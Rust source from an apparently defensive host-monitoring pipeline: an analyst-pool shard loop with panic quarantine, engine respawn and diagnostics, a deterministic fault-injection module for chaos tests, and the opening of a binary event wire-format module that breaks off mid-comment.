            outcome.digest_stream = write_digest_stream(&digests);
            return outcome;
        }
        match batch.len() {
            1 => queue.not_full.notify_one(),
            _ => queue.not_full.notify_all(),
        }
        let drained_at = std::time::Instant::now();
        process_drained(&mut analyst, &mut outcome, &supervisor, &sids, &batch, &mut nth);
        if let Some(flight) = &supervisor.flight {
            let elapsed = drained_at.elapsed();
            flight.stage("pool.batch", elapsed.as_nanos() as u64);
            if let Some(deadline) = supervisor.batch_deadline {
                if elapsed > deadline {
                    let mut stats = MetricsSnapshot::new();
                    shard_stats_snapshot(&mut stats, &outcome, &analyst);
                    let trigger = Trigger::Watchdog {
                        elapsed_us: elapsed.as_micros() as u64,
                        deadline_us: deadline.as_micros() as u64,
                    };
                    let component = format!("pool.shard{}", supervisor.shard);
                    hth_trace::global_diag().log(
                        DiagLevel::Warn,
                        &component,
                        &format!(
                            "batch of {} events took {}us (deadline {}us)",
                            batch.len(),
                            elapsed.as_micros(),
                            deadline.as_micros()
                        ),
                    );
                    outcome.bundles.push(flight.capture(&component, trigger, stats, Vec::new()));
                }
            }
        }
    }
}

/// One metrics snapshot of a shard's counters for a diagnostic bundle:
/// the outcome's accumulated match stats plus the live engine's (the
/// outcome only banks an engine's counters when it is retired).
fn shard_stats_snapshot(stats: &mut MetricsSnapshot, outcome: &ShardOutcome, analyst: &Analyst) {
    let mut match_stats = outcome.match_stats;
    if let Analyst::Running(engine) = analyst {
        match_stats.merge(&engine.match_stats());
    }
    match_stats.record_metrics(stats);
    stats.add_counter("hth_pool_events", outcome.events);
    stats.add_counter("hth_pool_quarantined", outcome.quarantined);
    stats.add_counter("hth_pool_discarded", outcome.discarded);
    stats.add_counter("hth_pool_respawns", u64::from(outcome.respawns));
    stats.add_counter("hth_pool_warnings", outcome.warnings.len() as u64);
}

/// Feeds one drained batch through the analyst, preserving the
/// per-event semantics of the original one-pop-per-lock loop: fault
/// injection points keep their per-event indices, every event lands in
/// exactly one of analysed / quarantined / discarded, and a mid-batch
/// panic loses only the panicking event — the completed prefix keeps
/// its warnings (recovered from the engine's sink) and the suffix is
/// re-fed to the respawned engine.
fn process_drained(
    analyst: &mut Analyst,
    outcome: &mut ShardOutcome,
    supervisor: &Supervisor,
    sids: &[SessionId],
    batch: &[SecpertEvent],
    nth: &mut u64,
) {
    let shard = supervisor.shard;
    let faults = supervisor.faults.as_deref();
    let nth0 = *nth;
    *nth += batch.len() as u64;
    let nth_of = |k: usize| nth0 + 1 + k as u64;
    // Events a fault plan touches are handled one at a time, exactly
    // like the per-event loop; only fault-free runs are batched.
    let faulted = |k: usize| {
        faults.is_some_and(|f| {
            f.stall(shard, nth_of(k)).is_some() || f.should_panic(shard, nth_of(k))
        })
    };
    let mut i = 0;
    while i < batch.len() {
        let Analyst::Running(engine) = &mut *analyst else {
            for event in &batch[i..] {
                if let Some(stall) = faults.and_then(|f| f.stall(shard, nth_of(i))) {
                    std::thread::sleep(stall);
                }
                outcome.discarded += 1;
                if supervisor.keep_lost_events {
                    outcome.lost_events.push((sids[i], event.clone()));
                }
                i += 1;
            }
            return;
        };
        let mut j = i;
        while j < batch.len() && !faulted(j) {
            j += 1;
        }
        if j > i {
            // Fault-free run: one engine call for the whole slice.
            let run = &batch[i..j];
            let events_before = engine.events_processed();
            let sink_before = engine.warnings_count();
            let result = catch_unwind(AssertUnwindSafe(|| {
                if run.len() == 1 {
                    engine.process_event(&run[0])
                } else {
                    engine.process_batch(run)
                }
            }));
            match result {
                Ok(Ok(warnings)) => {
                    outcome.events += run.len() as u64;
                    for k in i..j {
                        outcome.digest(sids[k]).observe(&batch[k]);
                    }
                    record_flight(supervisor, sids, batch, i, j);
                    record_warnings(outcome, warnings, &sids[i..j], events_before);
                    i = j;
                }
                Ok(Err(e)) => {
                    // An engine *error* is a policy bug, not a bad
                    // event: analysis results can no longer be trusted,
                    // so the shard degrades. The event that surfaced the
                    // bug is discarded; the completed prefix keeps its
                    // results.
                    let ok = completed_before_failure(engine, events_before);
                    outcome.events += ok as u64;
                    for k in i..i + ok {
                        outcome.digest(sids[k]).observe(&batch[k]);
                    }
                    record_flight(supervisor, sids, batch, i, i + ok);
                    let kept = completed_warnings(engine, sink_before, events_before + ok as u64);
                    record_warnings(outcome, kept, &sids[i..j], events_before);
                    hth_trace::global_diag().log(
                        DiagLevel::Error,
                        &format!("pool.shard{shard}"),
                        &format!("engine error, shard degraded to drain-and-discard: {e}"),
                    );
                    outcome.errors.push(format!("shard {shard}: engine error: {e}"));
                    outcome.discarded += 1;
                    if supervisor.keep_lost_events {
                        outcome.lost_events.push((sids[i + ok], batch[i + ok].clone()));
                    }
                    // Retired merge: this engine never runs again, so
                    // its live tokens are folded into `tokens_removed`
                    // rather than inflating the pool-wide live gauge.
                    outcome.match_stats.merge_retired(&engine.match_stats());
                    *analyst = Analyst::Failed;
                    i += ok + 1;
                }
                Err(panic) => {
                    // A panic is blamed on the event the engine was on:
                    // quarantine it, keep the completed prefix, then
                    // respawn and continue with the suffix.
                    let ok = completed_before_failure(engine, events_before);
                    let culprit = i + ok;
                    outcome.events += ok as u64;
                    for k in i..culprit {
                        outcome.digest(sids[k]).observe(&batch[k]);
                    }
                    record_flight(supervisor, sids, batch, i, culprit);
                    let kept = completed_warnings(engine, sink_before, events_before + ok as u64);
                    record_warnings(outcome, kept, &sids[i..j], events_before);
                    quarantine(
                        analyst,
                        outcome,
                        supervisor,
                        sids[culprit],
                        &batch[culprit],
                        nth_of(culprit),
                        panic,
                    );
                    i = culprit + 1;
                }
            }
            continue;
        }
        // batch[i] carries an injected fault: per-event path, exactly
        // as the original loop ran it.
        if let Some(stall) = faults.and_then(|f| f.stall(shard, nth_of(i))) {
            std::thread::sleep(stall);
        }
        let event_nth = nth_of(i);
        let event = &batch[i];
        let result = catch_unwind(AssertUnwindSafe(|| {
            if faults.is_some_and(|f| f.should_panic(shard, event_nth)) {
                panic!("injected fault: shard {shard} event {event_nth}");
            }
            engine.process_event(event)
        }));
        match result {
            Ok(Ok(warnings)) => {
                outcome.events += 1;
                outcome.digest(sids[i]).observe(event);
                record_flight(supervisor, sids, batch, i, i + 1);
                for warning in &warnings {
                    outcome.digest(sids[i]).observe_warning(warning);
                }
                outcome.warnings.extend(warnings);
            }
            Ok(Err(e)) => {
                hth_trace::global_diag().log(
                    DiagLevel::Error,
                    &format!("pool.shard{shard}"),
                    &format!("engine error, shard degraded to drain-and-discard: {e}"),
                );
                outcome.errors.push(format!("shard {shard}: engine error: {e}"));
                outcome.discarded += 1;
                if supervisor.keep_lost_events {
                    outcome.lost_events.push((sids[i], event.clone()));
                }
                outcome.match_stats.merge_retired(&engine.match_stats());
                *analyst = Analyst::Failed;
            }
            Err(panic) => {
                quarantine(analyst, outcome, supervisor, sids[i], event, event_nth, panic);
            }
        }
        i += 1;
    }
}

/// Extends the outcome's warning list and folds each warning's skeleton
/// into the digest of the session it belongs to. Attribution goes
/// through the warning's provenance event index — the engine counts
/// events for its whole life, so `event_index - events_before - 1` is
/// the warning's offset within this run whatever the batch boundaries
/// were, which is what keeps digests identical across batch sizes.
fn record_warnings(
    outcome: &mut ShardOutcome,
    warnings: Vec<Warning>,
    run_sids: &[SessionId],
    events_before: u64,
) {
    for warning in &warnings {
        let sid = warning
            .provenance
            .as_ref()
            .and_then(|p| {
                let offset = p.event_index.checked_sub(events_before + 1)?;
                run_sids.get(offset as usize).copied()
            })
            .unwrap_or(run_sids[0]);
        outcome.digest(sid).observe_warning(warning);
    }
    outcome.warnings.extend(warnings);
}

/// How many events of a partially-failed engine call completed cleanly.
/// `Secpert` counts an event as soon as it starts, so the in-flight
/// event is included in the delta and subtracted back out.
fn completed_before_failure(engine: &Secpert, events_before: u64) -> usize {
    ((engine.events_processed() - events_before) as usize).saturating_sub(1)
}

/// Warnings the engine's sink gained for the *completed* events of a
/// partially-failed batch. The failing event's partial warnings stay
/// unreported — matching the per-event path, where a failed
/// `process_event` returns nothing — which is why the filter keys on
/// each warning's provenance event index.
fn completed_warnings(engine: &Secpert, sink_before: usize, last_ok_index: u64) -> Vec<Warning> {
    engine
        .warnings_since(sink_before)
        .into_iter()
        .filter(|w| w.provenance.as_ref().is_some_and(|p| p.event_index <= last_ok_index))
        .collect()
}

/// Records one analysed run (`[from, to)` within the drained batch)
/// into the shard's flight recorder — a no-op when the recorder is
/// disabled, one lock crossing otherwise.
fn record_flight(
    supervisor: &Supervisor,
    sids: &[SessionId],
    batch: &[SecpertEvent],
    from: usize,
    to: usize,
) {
    let Some(flight) = &supervisor.flight else {
        return;
    };
    if from >= to {
        return;
    }
    flight.record_batch(batch[from..to].iter().zip(&sids[from..to]).map(|(event, sid)| {
        FlightEntryArgs {
            session: *sid,
            time: event.time(),
            kind: "event",
            label: event.syscall(),
            detail: event.resource_name(),
        }
    }));
}

/// Quarantines one event after a panic and respawns a fresh engine if
/// the budget allows; otherwise the shard degrades to drain-and-discard.
/// The previously-silent path now speaks: a rate-limited diagnostics
/// line per decision, and a [`Trigger::Quarantine`] bundle capturing
/// the shard's flight-recorder tail with the faulted event last.
fn quarantine(
    analyst: &mut Analyst,
    outcome: &mut ShardOutcome,
    supervisor: &Supervisor,
    session: SessionId,
    event: &SecpertEvent,
    event_nth: u64,
    panic: Box<dyn std::any::Any + Send>,
) {
    let shard = supervisor.shard;
    let message = describe_panic(&*panic);
    outcome.quarantined += 1;
    outcome.quarantine_log.push(format!("shard {shard} event {event_nth}: {message}"));
    if supervisor.keep_lost_events {
        outcome.lost_events.push((session, event.clone()));
    }
    // The engine is about to be replaced or dropped either way; bank
    // its match counters first. A retired merge: the replacement starts
    // with its own token population, so counting the dead engine's
    // tokens as live would double the gauge on every respawn.
    if let Analyst::Running(engine) = &*analyst {
        outcome.match_stats.merge_retired(&engine.match_stats());
    }
    let component = format!("pool.shard{shard}");
    let diag = hth_trace::global_diag();
    diag.log(
        DiagLevel::Error,
        &component,
        &format!("quarantined event {event_nth} ({}): {message}", event.syscall()),
    );
    if outcome.respawns >= supervisor.max_respawns {
        diag.log(
            DiagLevel::Error,
            &component,
            &format!(
                "respawn budget ({}) exhausted; draining without analysis",
                supervisor.max_respawns
            ),
        );
        outcome.errors.push(format!(
            "shard {shard}: respawn budget ({}) exhausted after: {message}",
            supervisor.max_respawns
        ));
        *analyst = Analyst::Failed;
    } else {
        match Secpert::new(&supervisor.policy) {
            Ok(fresh) => {
                outcome.respawns += 1;
                diag.log(
                    DiagLevel::Warn,
                    &component,
                    &format!(
                        "respawned fresh engine ({}/{})",
                        outcome.respawns, supervisor.max_respawns
                    ),
                );
                *analyst = Analyst::Running(Box::new(fresh));
            }
            Err(e) => {
                diag.log(DiagLevel::Error, &component, &format!("respawn failed: {e}"));
                outcome.errors.push(format!("shard {shard}: respawn failed: {e}"));
                *analyst = Analyst::Failed;
            }
        }
    }
    if let Some(flight) = &supervisor.flight {
        flight.record(session, event.time(), "fault", event.syscall(), &message);
        let mut stats = MetricsSnapshot::new();
        shard_stats_snapshot(&mut stats, outcome, analyst);
        outcome.bundles.push(flight.capture(
            &component,
            Trigger::Quarantine { shard, event_nth, message },
            stats,
            Vec::new(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use harrier::{Origin, ResourceType, SourceInfo};

    fn _assert_send<T: Send>() {}
    #[allow(dead_code)]
    fn engines_cross_threads() {
        // The pool moves Secpert engines into worker threads; this
        // fails to compile if the engine ever stops being Send.
        _assert_send::<Secpert>();
    }

    fn dropper_event(i: u64) -> SecpertEvent {
        SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_execve",
            resource: SourceInfo::new(ResourceType::File, "/bin/ls"),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/x")] },
            time: i,
            frequency: 5,
            address: 0,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        }
    }

    #[test]
    fn pool_analyses_and_warns() {
        let pool =
            AnalystPool::new(&PoolConfig::default(), &PolicyConfig::default()).expect("policy");
        for session in 0..8u64 {
            for i in 0..3 {
                pool.submit(session, dropper_event(i));
            }
        }
        let report = pool.finish();
        assert_eq!(report.submitted, 24);
        assert_eq!(report.events, 24);
        assert_eq!(report.lost(), 0);
        assert_eq!(report.warnings.len(), 24, "every hardcoded execve warns Low");
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        assert_eq!(report.shards.len(), 4);
        assert_eq!(report.shards.iter().map(|s| s.events).sum::<u64>(), 24);
    }

    #[test]
    fn same_session_same_shard() {
        let pool =
            AnalystPool::new(&PoolConfig::default(), &PolicyConfig::default()).expect("policy");
        for session in 0..100 {
            let shard = pool.shard_of(session);
            assert_eq!(shard, pool.shard_of(session), "routing must be stable");
            assert!(shard < pool.shards());
        }
        pool.finish();
    }

    #[test]
    fn drop_oldest_counts_evictions() {
        let config = PoolConfig {
            shards: 1,
            queue_capacity: 2,
            backpressure: Backpressure::DropOldest,
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy");
        // Stall the analyst? No need: submit faster than one engine can
        // possibly drain by flooding in a tight loop; with capacity 2 at
        // least some of 500 submissions must evict.
        for i in 0..500 {
            pool.submit(0, dropper_event(i));
        }
        let report = pool.finish();
        let stats = &report.shards[0];
        assert_eq!(stats.submitted, 500);
        assert_eq!(stats.events + stats.dropped, 500, "analysed + dropped = submitted");
        assert!(stats.high_water <= 2, "bounded queue respected: {}", stats.high_water);
    }

    #[test]
    fn panic_quarantines_the_event_and_respawns_the_analyst() {
        let config = PoolConfig {
            shards: 1,
            faults: Some(Arc::new(FaultPlan::new().panic_on(0, 3))),
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy");
        for i in 0..10 {
            pool.submit(0, dropper_event(i));
        }
        let report = pool.finish();
        let stats = &report.shards[0];
        assert_eq!(stats.submitted, 10);
        assert_eq!(stats.quarantined, 1, "exactly the faulted event");
        assert_eq!(stats.events, 9, "analysis resumes on a fresh engine");
        assert_eq!(stats.respawns, 1);
        assert_eq!(stats.discarded, 0);
        assert_eq!(report.warnings.len(), 9);
        assert_eq!(report.quarantine_log.len(), 1, "{:?}", report.quarantine_log);
        assert!(report.quarantine_log[0].contains("injected fault"), "{:?}", report.quarantine_log);
        assert!(report.errors.is_empty(), "a budgeted respawn is not an error");
    }

    /// A policy extension whose derived facts survive the standard
    /// cleanup rules, so an engine that has analysed events holds live
    /// tokens while quiescent — the state a quarantine kills.
    fn sticky_policy() -> PolicyConfig {
        PolicyConfig {
            extra_rules: vec![r#"
                (deftemplate execve_seen (slot time))
                (defrule remember_execve
                  (system_call_access (system_call_name SYS_execve) (time ?t))
                  =>
                  (assert (execve_seen (time ?t))))
                (defrule count_execves
                  (execve_seen (time ?t))
                  =>)
            "#
            .to_string()],
            ..PolicyConfig::default()
        }
    }

    /// Regression: merging a quarantined shard's match counters used to
    /// count the dead engine's live tokens as still live, so every
    /// respawn inflated the pool-wide `tokens_live` gauge. The merged
    /// gauge must equal the population of the engines that are actually
    /// alive at drain end — here, exactly one fresh engine that analysed
    /// the post-respawn suffix of the stream.
    #[test]
    fn respawn_does_not_double_count_live_tokens() {
        let policy = sticky_policy();
        let config = PoolConfig {
            shards: 1,
            faults: Some(Arc::new(FaultPlan::new().panic_on(0, 3))),
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &policy).expect("policy");
        for i in 0..10 {
            pool.submit(0, dropper_event(i));
        }
        let report = pool.finish();
        assert_eq!(report.respawns, 1);
        // Reference: a fresh engine fed the same events the respawned
        // analyst saw (nth 4..=10, i.e. times 3..10 — time 2 was
        // quarantined). Event processing is deterministic, so its live
        // population is exactly what the merged gauge must show.
        let mut reference = Secpert::new(&policy).expect("policy");
        for i in 3..10 {
            reference.process_event(&dropper_event(i)).expect("clean event");
        }
        assert!(
            reference.match_stats().tokens_live > 0,
            "the sticky policy must leave live tokens, or this test checks nothing"
        );
        assert_eq!(
            report.match_stats.tokens_live,
            reference.match_stats().tokens_live,
            "dead engine's tokens leaked into the live gauge"
        );
        assert_eq!(
            report.match_stats.tokens_created,
            report.match_stats.tokens_removed + report.match_stats.tokens_live,
            "created = removed + live must survive aggregation"
        );
    }

    /// Chaos-seeded variant of the same invariant: whatever a seeded
    /// fault plan does to the pool, the merged token accounting must
    /// stay closed (created = removed + live) and the loss ledger exact.
    #[test]
    fn seeded_chaos_keeps_token_accounting_closed() {
        for seed in [3u64, 17, 40104] {
            let config = PoolConfig {
                shards: 2,
                faults: Some(Arc::new(FaultPlan::from_seed(seed))),
                keep_lost_events: true,
                ..PoolConfig::default()
            };
            let pool = AnalystPool::new(&config, &sticky_policy()).expect("policy");
            for session in 0..4u64 {
                for i in 0..8 {
                    pool.submit(session, dropper_event(i));
                }
            }
            let report = pool.finish();
            assert_eq!(
                report.submitted,
                report.events + report.dropped + report.quarantined + report.discarded,
                "seed {seed}: loss ledger must balance"
            );
            assert_eq!(
                report.match_stats.tokens_created,
                report.match_stats.tokens_removed + report.match_stats.tokens_live,
                "seed {seed}: created = removed + live must survive chaos"
            );
        }
    }

    #[test]
    fn respawn_budget_exhaustion_degrades_to_discard() {
        let plan = FaultPlan::new().panic_on(0, 1).panic_on(0, 2).panic_on(0, 3);
        let config = PoolConfig {
            shards: 1,
            max_respawns: 1,
            faults: Some(Arc::new(plan)),
            keep_lost_events: true,
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy");
        for i in 0..10 {
            pool.submit(0, dropper_event(i));
        }
        let report = pool.finish();
        let stats = &report.shards[0];
        assert_eq!(stats.submitted, 10);
        assert_eq!(stats.quarantined, 2, "two panics hit a live engine");
        assert_eq!(stats.respawns, 1, "budget of one respawn");
        assert_eq!(stats.discarded, 8, "everything after the second panic is discarded");
        assert_eq!(stats.events, 0);
        assert_eq!(stats.submitted, stats.events + stats.lost());
        assert_eq!(report.lost_events.len() as u64, report.lost());
        assert!(report.errors.iter().any(|e| e.contains("respawn budget")), "{:?}", report.errors);
    }
}
