//! Deterministic fault injection for the fleet pipeline.
//!
//! Trojans stress their hosts; a fleet that only works on a healthy
//! machine is not a monitor. A [`FaultPlan`] decides — purely as a
//! function of a seed and an event's coordinates — where the pipeline
//! misbehaves: a journal byte flips, a frame is torn mid-write, an
//! analyst shard panics, a queue stalls. Because every decision is
//! deterministic, a chaos run is reproducible (`hth fleet --chaos-seed
//! N` fails the same way every time) and the whole failure model is
//! testable: the chaos suite asserts that every injected loss shows up
//! in a counter and nothing vanishes silently.
//!
//! Two ways to build a plan:
//!
//! * [`FaultPlan::from_seed`] — rate-based faults derived from the seed
//!   (what `--chaos-seed` uses); coordinates are hashed with SplitMix64
//!   so the same seed always faults the same events,
//! * explicit points ([`FaultPlan::panic_on`], [`FaultPlan::stall_on`],
//!   [`FaultPlan::flip_bit`], [`FaultPlan::truncate`]) — surgical
//!   placement for unit tests and fixture generation.

use std::collections::BTreeMap;
use std::time::Duration;

/// A fault applied to one journal frame, selected by event index.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum JournalFault {
    /// XOR one bit of the encoded frame (length prefix, CRC or payload —
    /// whichever the bit offset lands in, modulo the frame length).
    FlipBit {
        /// Bit offset into the frame, taken modulo the frame's bit
        /// length.
        bit: u64,
    },
    /// Write only the first `keep` bytes of the frame, then stop — a
    /// torn write. Everything after this event is lost.
    Truncate {
        /// Bytes of the frame to keep (clamped to the frame length).
        keep: usize,
    },
}

/// A fault applied to one serve-protocol connection, selected by
/// session id and request ordinal.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ConnectionFault {
    /// Close the socket after writing only `keep` bytes of the request
    /// frame — a mid-frame disconnect. The server must drop the torn
    /// frame; the client loses at most its unacked requests.
    Disconnect {
        /// Bytes of the frame to send before closing (clamped).
        keep: usize,
    },
    /// Pause for `millis` between the frame header and its payload — a
    /// stalled client exercising the server's read path mid-frame.
    Stall {
        /// How long to hold the partial frame.
        millis: u64,
    },
}

/// A seeded, deterministic plan of where the pipeline misbehaves.
#[derive(Clone, Debug, Default)]
pub struct FaultPlan {
    seed: u64,
    /// One panic in `panic_denom` analysed events (0 = off).
    panic_denom: u64,
    /// One stall in `stall_denom` analysed events (0 = off).
    stall_denom: u64,
    stall_millis: u64,
    /// One journal fault in `journal_denom` appended events (0 = off).
    journal_denom: u64,
    panics: Vec<(usize, u64)>,
    stalls: BTreeMap<(usize, u64), Duration>,
    journal: BTreeMap<u64, JournalFault>,
    connection: BTreeMap<(u64, u64), ConnectionFault>,
    torn_snapshots: BTreeMap<u64, usize>,
}

/// SplitMix64 finalizer over a combined coordinate, the deterministic
/// core of every rate-based decision.
fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

impl FaultPlan {
    /// An empty plan: no faults until points are added.
    pub fn new() -> FaultPlan {
        FaultPlan::default()
    }

    /// The standard chaos mix for a seed (what `--chaos-seed` builds):
    /// roughly one shard panic per 96 analysed events, one short queue
    /// stall per 160, journal faults off. Every decision is a pure
    /// function of `(seed, shard, event index)`.
    pub fn from_seed(seed: u64) -> FaultPlan {
        FaultPlan {
            seed,
            panic_denom: 96,
            stall_denom: 160,
            stall_millis: 1 + mix(seed) % 3,
            ..FaultPlan::default()
        }
    }

    /// The seed the rate-based faults are derived from.
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Adds an explicit shard panic: the analyst handling `shard`'s
    /// `nth` event (1-based) panics instead of analysing it.
    #[must_use]
    pub fn panic_on(mut self, shard: usize, nth: u64) -> FaultPlan {
        self.panics.push((shard, nth));
        self
    }

    /// Adds an explicit queue stall before `shard`'s `nth` event.
    #[must_use]
    pub fn stall_on(mut self, shard: usize, nth: u64, millis: u64) -> FaultPlan {
        self.stalls.insert((shard, nth), Duration::from_millis(millis));
        self
    }

    /// Flips one bit of the frame encoding journal event `index`
    /// (0-based append order).
    #[must_use]
    pub fn flip_bit(mut self, event: u64, bit: u64) -> FaultPlan {
        self.journal.insert(event, JournalFault::FlipBit { bit });
        self
    }

    /// Tears the write of journal event `index` after `keep` bytes.
    #[must_use]
    pub fn truncate(mut self, event: u64, keep: usize) -> FaultPlan {
        self.journal.insert(event, JournalFault::Truncate { keep });
        self
    }

    /// Enables rate-based journal faults: one fault per `denom` appended
    /// events, alternating bit flips and torn writes by hash parity.
    #[must_use]
    pub fn with_journal_rate(mut self, denom: u64) -> FaultPlan {
        self.journal_denom = denom;
        self
    }

    /// Adds an explicit connection-level fault: session `session`'s
    /// `nth` request frame (1-based) is disconnected mid-frame or
    /// stalled, per `fault`.
    #[must_use]
    pub fn connection_on(mut self, session: u64, nth: u64, fault: ConnectionFault) -> FaultPlan {
        self.connection.insert((session, nth), fault);
        self
    }

    /// Tears the server's `nth` snapshot write (1-based eviction order)
    /// after `keep` bytes — the restore path must reject the torn bytes
    /// and fall back to a full journal replay.
    #[must_use]
    pub fn torn_snapshot(mut self, nth_eviction: u64, keep: usize) -> FaultPlan {
        self.torn_snapshots.insert(nth_eviction, keep);
        self
    }

    /// The connection fault, if any, for session `session`'s `nth`
    /// request frame (1-based).
    pub fn connection_fault(&self, session: u64, nth: u64) -> Option<ConnectionFault> {
        self.connection.get(&(session, nth)).copied()
    }

    /// How many bytes of the `nth` snapshot write (1-based) survive, or
    /// `None` when the write is intact.
    pub fn snapshot_tear(&self, nth_eviction: u64) -> Option<usize> {
        self.torn_snapshots.get(&nth_eviction).copied()
    }

    /// Should the analyst panic on `shard`'s `nth` event? (1-based.)
    pub fn should_panic(&self, shard: usize, nth: u64) -> bool {
        if self.panics.contains(&(shard, nth)) {
            return true;
        }
        self.panic_denom != 0
            && mix(self.seed ^ 0xA11C_E000 ^ ((shard as u64) << 32) ^ nth)
                .is_multiple_of(self.panic_denom)
    }

    /// How long the analyst should stall before `shard`'s `nth` event.
    pub fn stall(&self, shard: usize, nth: u64) -> Option<Duration> {
        if let Some(d) = self.stalls.get(&(shard, nth)) {
            return Some(*d);
        }
        if self.stall_denom != 0
            && mix(self.seed ^ 0x57A1_1000 ^ ((shard as u64) << 32) ^ nth)
                .is_multiple_of(self.stall_denom)
        {
            return Some(Duration::from_millis(self.stall_millis));
        }
        None
    }

    /// The fault, if any, applied to journal event `index` (0-based).
    pub fn journal_fault(&self, event: u64) -> Option<JournalFault> {
        if let Some(f) = self.journal.get(&event) {
            return Some(*f);
        }
        if self.journal_denom != 0 {
            let h = mix(self.seed ^ 0x10BB_ED00 ^ event);
            if h.is_multiple_of(self.journal_denom) {
                return Some(if h & 0x100 == 0 {
                    JournalFault::FlipBit { bit: h >> 9 }
                } else {
                    JournalFault::Truncate { keep: (h >> 9) as usize % 32 }
                });
            }
        }
        None
    }

    /// True when the plan can never fire (no rates, no points) — lets
    /// hot paths skip the bookkeeping entirely.
    pub fn is_empty(&self) -> bool {
        self.panic_denom == 0
            && self.stall_denom == 0
            && self.journal_denom == 0
            && self.panics.is_empty()
            && self.stalls.is_empty()
            && self.journal.is_empty()
            && self.connection.is_empty()
            && self.torn_snapshots.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeded_plans_are_deterministic_and_seed_sensitive() {
        let a = FaultPlan::from_seed(7);
        let b = FaultPlan::from_seed(7);
        let c = FaultPlan::from_seed(8);
        let decisions =
            |p: &FaultPlan| (0..4000u64).map(|i| p.should_panic(0, i)).collect::<Vec<_>>();
        assert_eq!(decisions(&a), decisions(&b), "same seed, same faults");
        assert_ne!(decisions(&a), decisions(&c), "different seed, different faults");
        let fired = decisions(&a).iter().filter(|f| **f).count();
        assert!((10..=90).contains(&fired), "~1/96 rate over 4000 events, got {fired}");
    }

    #[test]
    fn connection_and_snapshot_faults_fire_where_placed() {
        let plan = FaultPlan::new()
            .connection_on(3, 2, ConnectionFault::Disconnect { keep: 5 })
            .connection_on(1, 4, ConnectionFault::Stall { millis: 20 })
            .torn_snapshot(2, 9);
        assert_eq!(plan.connection_fault(3, 2), Some(ConnectionFault::Disconnect { keep: 5 }));
        assert_eq!(plan.connection_fault(1, 4), Some(ConnectionFault::Stall { millis: 20 }));
        assert_eq!(plan.connection_fault(3, 1), None);
        assert_eq!(plan.snapshot_tear(2), Some(9));
        assert_eq!(plan.snapshot_tear(1), None);
        assert!(!plan.is_empty());
    }

    #[test]
    fn explicit_points_fire_exactly_where_placed() {
        let plan =
            FaultPlan::new().panic_on(2, 5).stall_on(1, 3, 10).flip_bit(4, 17).truncate(9, 6);
        assert!(plan.should_panic(2, 5));
        assert!(!plan.should_panic(2, 4) && !plan.should_panic(1, 5));
        assert_eq!(plan.stall(1, 3), Some(Duration::from_millis(10)));
        assert_eq!(plan.stall(1, 4), None);
        assert_eq!(plan.journal_fault(4), Some(JournalFault::FlipBit { bit: 17 }));
        assert_eq!(plan.journal_fault(9), Some(JournalFault::Truncate { keep: 6 }));
        assert_eq!(plan.journal_fault(5), None);
        assert!(!plan.is_empty());
        assert!(FaultPlan::new().is_empty());
    }
}
