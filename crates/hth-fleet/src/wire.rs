//! The Harrier→Secpert event protocol as a compact, versioned binary
//! wire format.
//!
//! The paper (§6.1.2, Figure 1) describes Harrier streaming `resource
//! access` / `data transfer` events to Secpert over an event protocol;
//! this module is that protocol's on-the-wire shape. Layout:
//!
//! * **Stream header** — magic `HTHW` + a version byte, written once per
//!   stream (see [`write_header`] / [`read_header`]).
//! * **Varints** — all integers are LEB128 (7 bits per byte, high bit =
//!   continuation), so the common small pids/times/frequencies cost one
//!   byte.
//! * **String interning** — resource names, syscall names and server
//!   addresses repeat heavily within a stream. The first occurrence is
//!   sent inline (`0` marker, length, UTF-8 bytes) and assigns the next
//!   table index; later occurrences send `index + 1` as a single varint.
//!   Encoder and decoder grow identical tables, so a stream is
//!   self-describing but must be decoded in order.
//! * **Events** — a tag byte (`0` = `ResourceAccess`, `1` =
//!   `DataTransfer`) followed by the variant's fields in declaration
//!   order. `Option` fields are a presence byte; vectors are a count
//!   varint; [`ResourceType`] is its stable [`ResourceType::code`].
//!
//! Encoding is infallible (it writes to a `Vec<u8>`); decoding returns
//! [`WireError`] on malformed input and never panics.

use std::collections::HashMap;
use std::fmt;

use harrier::{intern_syscall, Origin, ResourceType, SecpertEvent, ServerInfo, SourceInfo};

/// First bytes of every stream.
pub const MAGIC: [u8; 4] = *b"HTHW";

/// Current wire-format version. Version 2 appends the `bytes` counter
/// to `DataTransfer` records; version-1 streams decode it as 0.
pub const VERSION: u8 = 2;

/// Oldest event-codec version this build still decodes.
pub const MIN_VERSION: u8 = 1;

const TAG_RESOURCE_ACCESS: u8 = 0;
const TAG_DATA_TRANSFER: u8 = 1;

/// Decode-side failures.
#[derive(Debug)]
pub enum WireError {
    /// Underlying reader failed.
    Io(std::io::Error),
    /// The stream does not start with [`MAGIC`].
    BadMagic([u8; 4]),
    /// The stream's version is not one this build understands.
    BadVersion(u8),
    /// Unknown event tag byte.
    BadTag(u8),
    /// Unknown [`ResourceType`] code.
    BadResourceType(u8),
    /// Unknown severity level in a digest stream.
    BadSeverity(u8),
    /// A string back-reference pointed outside the interning table.
    BadStringRef(u64),
    /// An inline string was not valid UTF-8.
    Utf8(std::str::Utf8Error),
    /// The input ended inside a value.
    Truncated,
    /// A varint ran past 64 bits.
    VarintOverflow,
    /// A journal frame failed its CRC32 check (bit rot / torn write).
    Crc {
        /// Checksum stored in the frame.
        stored: u32,
        /// Checksum computed over the payload actually read.
        computed: u32,
    },
    /// A frame length claims more than [`MAX_FRAME_LEN`] bytes — a real
